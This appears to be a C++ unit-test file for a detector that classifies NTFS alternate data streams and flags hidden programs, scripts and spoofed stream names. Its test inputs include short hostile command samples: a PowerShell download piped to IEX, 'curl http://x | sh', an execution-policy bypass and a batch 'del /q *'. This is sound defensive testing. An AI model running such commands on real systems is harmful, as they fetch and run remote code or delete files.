// The classifier over real-form samples: programs built by MinGW-w64 and the native compiler,
// scripts, archives and Office files written by Python, shortcuts, property sets; the harmless
// streams a Windows machine carries, all known; known names holding foreign content; names made to
// look like others.

#include "report/ContentSignature.h"
#include "report/StreamClassifier.h"

#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <random>
#include <string>

using namespace std::string_literals;
using report::TVerdict;

namespace {

std::string fixture(const std::string& name) {
    std::ifstream in(std::string(KW_REPORT_FIXTURES) + "/" + name, std::ios::binary);
    EXPECT_TRUE(in) << name;
    return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

std::string randomBytes(std::size_t count, unsigned seed) {
    std::mt19937 random(seed);
    std::string out(count, '\0');
    for (char& c : out) {
        c = static_cast<char>(random() & 0xFF);
    }
    return out;
}

std::string utf16le(std::string_view ascii, bool byteOrderMark) {
    std::string out = byteOrderMark ? "\xFF\xFE" : "";
    for (const char c : ascii) {
        out += c;
        out += '\0';
    }
    return out;
}

// A shortcut's header (76 bytes: size, the shell link class, flags, attributes, times, size, icon,
// show command, hot key) followed by a little of its item list.
std::string shortcutBytes() {
    std::string out("\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"s);
    out += "\x9B\0\x08\0"s + "\x20\0\0\0"s;
    out += std::string(76 - out.size(), '\0');
    return out + "\x14\0\x1F\x50\xE0\x4F\xD0\x20\xEA\x3A\x69\x10\xA2\xD8\x08\x00\x2B\x30\x30\x9D"s;
}

// An OLE property set stream (SummaryInformation): byte order, version 0, Windows 10 as the system,
// no class, one section with its format identifier and offset, then the section.
std::string propertySetBytes() {
    std::string out = "\xFE\xFF\x00\x00\x0A\x00\x02\x00"s + std::string(16, '\0') + "\x01\0\0\0"s;
    out += "\xE0\x85\x9F\xF2\xF9\x4F\x68\x10\xAB\x91\x08\x00\x2B\x27\xB3\xD9"s + "\x30\0\0\0"s;
    return out + "\x18\0\0\0\x01\0\0\0"s + "\x02\0\0\0\x10\0\0\0"s + "\x02\0\0\0\xE4\x04\0\0"s;
}

// The property store's serialised form: storage size, "1SPS", the format identifier, one value.
std::string propertyStoreBytes() {
    return "\x40\0\0\0"s + "1SPS"s + "\xE0\x85\x9F\xF2\xF9\x4F\x68\x10\xAB\x91\x08\x00\x2B\x27\xB3\xD9"s +
           "\x1C\0\0\0\x02\0\0\0\0\x1F\0\0\0\x06\0\0\0"s + utf16le("title", false) + "\0\0\0\0\0\0\0\0"s;
}

// Services for Macintosh's AfpInfo: "AFP\0", version 1.0, reserved, backup time, Finder information.
std::string afpInfoBytes() {
    return "AFP\0\0\0\x01\0\0\0\0\0\0\0\0\x80"s + "TEXTttxt"s + std::string(44, '\0');
}

std::string iconBytes() {
    std::string out = "\0\0\x01\0\x01\0"s + "\x10\x10\0\0\x01\0\x20\0"s + "\x68\x04\0\0\x16\0\0\0"s;
    return out + "\x28\0\0\0\x10\0\0\0\x20\0\0\0"s + std::string(64, '\x7F');
}

const std::string kMark = "[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=https://example.com/downloads\r\n"
                          "HostUrl=https://dl.example.com/setup.exe\r\n";

struct TCase {
    const wchar_t* name;
    std::string bytes;
    const char* kind;
    TVerdict verdict;
    bool onFolder = false;
};

report::TStreamClass classify(const TCase& c) {
    return report::classifyStream({.name = c.name,
                                   .size = static_cast<std::int64_t>(c.bytes.size()),
                                   .onFolder = c.onFolder,
                                   .head = c.bytes});
}

void expectCases(const std::vector<TCase>& cases) {
    for (const TCase& c : cases) {
        const report::TStreamClass got = classify(c);
        EXPECT_EQ(got.kind, c.kind) << report::reasonsLine(got) << " [" << got.kindText << "]";
        EXPECT_EQ(report::verdictName(got.verdict), report::verdictName(c.verdict))
            << got.kind << ": " << report::reasonsLine(got);
        EXPECT_FALSE(got.reasons.empty()) << got.kind;
        EXPECT_FALSE(got.kindText.empty()) << got.kind;
    }
}

TEST(StreamClassifierTest, RealFormSamplesGetTheirKindAndVerdict) {
    std::ifstream self("/proc/self/exe", std::ios::binary);
    std::string elf(4096, '\0');
    self.read(elf.data(), static_cast<std::streamsize>(elf.size()));
    std::string embedded = "header\x01\x02"s + std::string(120, '\x11') + fixture("tiny-x86.exe");
    expectCases({
        {L"payload", fixture("tiny-x86.exe"), "pe-exe", TVerdict::suspicious},
        {L"x", fixture("tiny-x64.dll"), "pe-dll", TVerdict::suspicious},
        {L"x", fixture("tiny-x64.sys"), "pe-driver", TVerdict::suspicious},
        {L"x", elf, "elf", TVerdict::suspicious},
        {L"x", "\xCF\xFA\xED\xFE\x07\0\0\x01\x03\0\0\0\x02\0\0\0"s, "macho", TVerdict::suspicious},
        {L"x", "\xCA\xFE\xBA\xBE\0\0\0\x34\0\x10"s, "java-class", TVerdict::suspicious},
        {L"x", embedded, "pe-embedded", TVerdict::suspicious},
        {L"x", shortcutBytes(), "lnk", TVerdict::suspicious},
        {L"s", "$c = New-Object System.Net.WebClient\r\n$c.DownloadString('http://x/a.ps1') | IEX\r\n",
         "script-powershell", TVerdict::suspicious},
        {L"s", utf16le("Invoke-Expression $env:TEMP\r\nWrite-Host done\r\n", true), "script-powershell",
         TVerdict::suspicious},
        {L"s", "@echo off\r\nset T=%TEMP%\r\ncall :run\r\ngoto :eof\r\n", "script-batch",
         TVerdict::suspicious},
        {L"s", "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc.exe\", 0\r\n", "script-vbscript",
         TVerdict::suspicious},
        {L"s", "var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"calc.exe\");\n", "script-jscript",
         TVerdict::suspicious},
        {L"s", "<html><head><HTA:APPLICATION ID=\"a\" WINDOWSTATE=\"minimize\"></head></html>", "script-hta",
         TVerdict::suspicious},
        {L"s", "#!/bin/sh\ncurl http://x | sh\n", "script-shebang", TVerdict::suspicious},
        {L"s", "#@~^FAAAAA==", "script-encoded", TVerdict::suspicious},
        {L"a", fixture("sample.zip"), "zip", TVerdict::unknown},
        {L"a", fixture("sample.docx"), "office-word", TVerdict::unknown},
        {L"a", fixture("sample.xlsx"), "office-excel", TVerdict::unknown},
        {L"a", fixture("sample.odt"), "opendocument", TVerdict::unknown},
        {L"a", fixture("sample.docm"), "office-macro", TVerdict::suspicious},
        {L"a", fixture("sample.jar"), "jar", TVerdict::suspicious},
        {L"a", "Rar!\x1A\x07\x01\x00\x33\x92\xB5\xE5\x0A\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00"s, "rar",
         TVerdict::unknown},
        {L"a", "7z\xBC\xAF\x27\x1C\x00\x04"s + randomBytes(40, 1), "7z", TVerdict::unknown},
        {L"a", "MSCF\0\0\0\0\x9A\x01\0\0\0\0\0\0\x2C\0\0\0\0\0\0\0\x03\x01\x01\0"s, "cab", TVerdict::unknown},
        {L"a", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"s + std::string(16, '\0') + "\x3E\0\x03\0\xFE\xFF"s, "ole",
         TVerdict::unknown},
        {L"a", "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n"s, "pdf", TVerdict::unknown},
        {L"a", "\x89PNG\r\n\x1A\n\0\0\0\rIHDR"s, "image-png", TVerdict::unknown},
        {L"a", "\xFF\xD8\xFF\xE0\0\x10JFIF\0"s, "image-jpeg", TVerdict::unknown},
        {L"a", "GIF89a\x01\0\x01\0"s, "image-gif", TVerdict::unknown},
        {L"t", "Meeting notes: bring the slides.\r\n", "text", TVerdict::unknown},
        {L"t", utf16le("Notizen zum Projekt\r\n", true), "text", TVerdict::unknown},
        {L"t", utf16le("Notes without a byte-order mark", false), "text", TVerdict::unknown},
        {L"t",
         "Gr\xC3\xBC\xC3\x9F"
         "e aus K\xC3\xB6ln",
         "text", TVerdict::unknown},
        {L"t", "key=" + std::string(300, 'A') + "b9" + std::string(200, 'x'), "base64", TVerdict::unknown},
        {L"d", randomBytes(8192, 2), "data", TVerdict::suspicious},
        {L"d", randomBytes(1024, 3), "data", TVerdict::unknown},
        {L"d", "", "empty", TVerdict::unknown},
    });
}

TEST(StreamClassifierTest, HarmlessStreamsOfAWindowsMachineAreKnown) {
    std::string wof = "\x00\x10\0\0\x00\x20\0\0"s + randomBytes(16384, 4); // chunk offsets, then chunks
    expectCases({
        {L"Zone.Identifier", kMark, "download-mark", TVerdict::known},
        {L"zone.identifier", "[ZoneTransfer]\r\nZoneId=3\r\n", "download-mark", TVerdict::known},
        {L"Zone.Identifier", utf16le("[ZoneTransfer]\r\nZoneId=2\r\n", true), "download-mark",
         TVerdict::known},
        {L"Zone.Identifier", "[ZoneTransfer]\nZoneId=3\nLastWriterPackageFamilyName=Microsoft.Edge\n",
         "download-mark", TVerdict::known},
        {L"SmartScreen", "Anaheim", "smartscreen", TVerdict::known},
        {L"WofCompressedData", wof, "wof-compressed", TVerdict::known},
        {L"$CI.CATALOGCACHE", "\x01\0\0\0"s + randomBytes(300, 5), "ci-catalog-cache", TVerdict::known},
        {L"$KERNEL.PURGE.ESBCACHE", "\x80\0\0\0\x03\0\x02\0"s + randomBytes(120, 6), "kernel-purge-cache",
         TVerdict::known},
        {L"$KERNEL.PURGE.APPXFICACHE", randomBytes(48, 7), "kernel-purge-cache", TVerdict::known},
        {L"encryptable", "", "encryptable", TVerdict::known},
        {L"favicon", iconBytes(), "favicon", TVerdict::known},
        {L"favicon", "\x89PNG\r\n\x1A\n\0\0\0\rIHDR"s, "favicon", TVerdict::known},
        {L"ms-properties", propertyStoreBytes(), "ms-properties", TVerdict::known},
        {L"\x05SummaryInformation", propertySetBytes(), "property-set", TVerdict::known},
        {L"\x05"
         L"DocumentSummaryInformation",
         propertySetBytes(), "property-set", TVerdict::known},
        {L"{4c8cc155-6c1e-11d1-8e41-00c04fb9386d}", "", "property-set-storage", TVerdict::known},
        {L"OECustomProperty", "\x01\0\0\0\x14\0\0\0"s + randomBytes(20, 8), "outlook-express",
         TVerdict::known},
        {L"AFP_AfpInfo", afpInfoBytes(), "afp-info", TVerdict::known},
        {L"AFP_Resource", "\0\0\x01\0\0\0\x01\x1E\0\0\0\x1E\0\0\0\x32"s + std::string(240, '\0'),
         "afp-resource", TVerdict::known},
        {L"com.apple.quarantine", "0083;65a4f1b2;Safari;B2D6C1E0-27A1-4B5E-9E2D-3C1F5A8B7D90",
         "apple-metadata", TVerdict::known},
        {L"com.apple.metadata:kMDItemWhereFroms", "bplist00\xA2\x01\x02_\x10\x1Bhttps://example.com/a.zip"s,
         "apple-metadata", TVerdict::known},
        {L"com.apple.lastuseddate#PS", randomBytes(16, 9), "apple-metadata", TVerdict::known},
        {L"com.dropbox.attrs", "\n\x12\n\x10"s + randomBytes(16, 10), "dropbox-attributes", TVerdict::known},
        {L"com.dropbox.attributes", "x\x9C"s + randomBytes(60, 11), "dropbox-attributes", TVerdict::known},
        {L"KAVICHS", "\x02\0\0\0"s + randomBytes(24, 12), "antivirus-tag", TVerdict::known},
    });
}

TEST(StreamClassifierTest, KnownNamesHoldingForeignContentAreSuspicious) {
    expectCases({
        {L"Zone.Identifier", fixture("tiny-x86.exe"), "pe-exe", TVerdict::suspicious},
        {L"Zone.Identifier", randomBytes(97, 13), "data", TVerdict::suspicious},
        {L"Zone.Identifier", "hello, this is not a mark", "text", TVerdict::suspicious},
        {L"Zone.Identifier", "", "empty", TVerdict::suspicious},
        {L"SmartScreen", "powershell -ExecutionPolicy Bypass -File x.ps1\r\n", "script-powershell",
         TVerdict::suspicious},
        {L"SmartScreen", std::string(5000, 'a'), "text", TVerdict::suspicious},
        {L"favicon", "just some words", "text", TVerdict::suspicious},
        {L"ms-properties", randomBytes(200, 14), "data", TVerdict::suspicious},
        {L"\x05SummaryInformation", "not a property set", "text", TVerdict::suspicious},
        {L"AFP_AfpInfo", "", "empty", TVerdict::suspicious},
        {L"encryptable", randomBytes(5000, 15), "data", TVerdict::suspicious},
        {L"WofCompressedData", fixture("tiny-x64.dll"), "pe-dll", TVerdict::suspicious},
        {L"com.apple.ResourceFork", "@echo off\r\ncmd /c start x.exe\r\n", "script-batch",
         TVerdict::suspicious},
    });
    // The reason names what the name promised and what it holds.
    const report::TStreamClass mz =
        classify({L"Zone.Identifier", fixture("tiny-x86.exe"), "", TVerdict::known});
    EXPECT_EQ(report::shownKind(mz), "Suspicious: Windows program (x86)");
    EXPECT_EQ(mz.reasons.front(), "\"Zone.Identifier\" is the name of a download mark, but this one holds a "
                                  "Windows program (x86).");
}

TEST(StreamClassifierTest, NamesMadeToLookEmptyOrLikeOthersAreSuspicious) {
    const std::string text = "harmless words";
    expectCases({
        {L" ", text, "text", TVerdict::suspicious},
        {L"\x200B\x200B", text, "text", TVerdict::suspicious},
        {L"\x01\x02", text, "text", TVerdict::suspicious},
        {L"Zone.ldentifier", kMark, "text", TVerdict::suspicious},
        {L"Z\x043Ene.Identifier", kMark, "text", TVerdict::suspicious}, // a Cyrillic o
        {L"Zone.Identifier\x200B", kMark, "text", TVerdict::suspicious},
        {L"Zone.Identifier.", kMark, "text", TVerdict::suspicious},
        {L"$DATA", text, "text", TVerdict::suspicious},
        {L"$I30", text, "text", TVerdict::suspicious},
        {L"notes", text, "text", TVerdict::unknown},
        {L"Zone", text, "text", TVerdict::unknown},
    });
}

TEST(StreamClassifierTest, WhereAndWhetherItCouldBeReadCount) {
    const report::TStreamClass onFolder =
        classify({L"x", "@echo off\r\ndel /q *\r\nexit /b\r\n", "", TVerdict::known, true});
    ASSERT_EQ(onFolder.verdict, TVerdict::suspicious);
    ASSERT_EQ(onFolder.reasons.size(), 2U);
    EXPECT_NE(onFolder.reasons[1].find("folder"), std::string::npos);
    const report::TStreamClass textOnFolder = classify({L"x", "notes", "", TVerdict::known, true});
    EXPECT_EQ(textOnFolder.verdict, TVerdict::unknown);

    const report::TStreamClass unreadable =
        report::classifyStream({.name = L"Zone.Identifier", .size = 26, .readable = false, .head = {}});
    EXPECT_EQ(unreadable.kind, "unreadable");
    EXPECT_EQ(unreadable.verdict, TVerdict::unknown);
    const report::TStreamClass unreadableOdd =
        report::classifyStream({.name = L"$MFT", .size = 9, .readable = false, .head = {}});
    EXPECT_EQ(unreadableOdd.verdict, TVerdict::suspicious);
}

TEST(StreamClassifierTest, NothingPastTheFirst64KiBIsLookedAt) {
    std::string bytes(report::kClassifyBytes, 'a');
    const report::TStreamClass text = classify({L"x", bytes + fixture("tiny-x86.exe"), "", TVerdict::known});
    EXPECT_EQ(text.kind, "text");
    bytes.replace(bytes.size() - 2, 2, "MZ"); // a program's start at the very end is too short to be one
    EXPECT_EQ(classify({L"x", bytes, "", TVerdict::known}).kind, "text");
    // A character cut by the end of what was read leaves text text; a broken one at a stream's end does not.
    std::string cut(report::kClassifyBytes - 1, 'a');
    EXPECT_EQ(classify({L"x", cut + "\xC3\xBC" + "more", "", TVerdict::known}).kindText, "Text (ASCII)");
    EXPECT_EQ(classify({L"x", "#!\x9A", "", TVerdict::known}).kind, "data");
    // A whole stream larger than what was read is judged by what was read.
    const report::TStreamClass big =
        report::classifyStream({.name = L"WofCompressedData",
                                .size = std::int64_t{1} << 32,
                                .head = randomBytes(report::kClassifyBytes, 16)});
    EXPECT_EQ(big.verdict, TVerdict::known);
}

TEST(StreamClassifierTest, EntropyInBitsPerByte) {
    std::string all;
    for (int i = 0; i < 256; ++i) {
        all += static_cast<char>(i);
    }
    EXPECT_DOUBLE_EQ(report::byteEntropy(""), 0);
    EXPECT_DOUBLE_EQ(report::byteEntropy("aaaa"), 0);
    EXPECT_DOUBLE_EQ(report::byteEntropy("abab"), 1);
    EXPECT_DOUBLE_EQ(report::byteEntropy(all), 8);
    EXPECT_DOUBLE_EQ(classify({L"x", all + all, "", TVerdict::known}).entropy, 8);
}

TEST(StreamClassifierTest, DownloadMarkTextNamesZoneAndHost) {
    const report::TStreamClass mark = classify({L"Zone.Identifier", kMark, "", TVerdict::known});
    EXPECT_EQ(mark.kindText, "Download mark (zone 3, Internet, from dl.example.com)");
    EXPECT_EQ(report::shownKind(mark), mark.kindText);
}

} // namespace
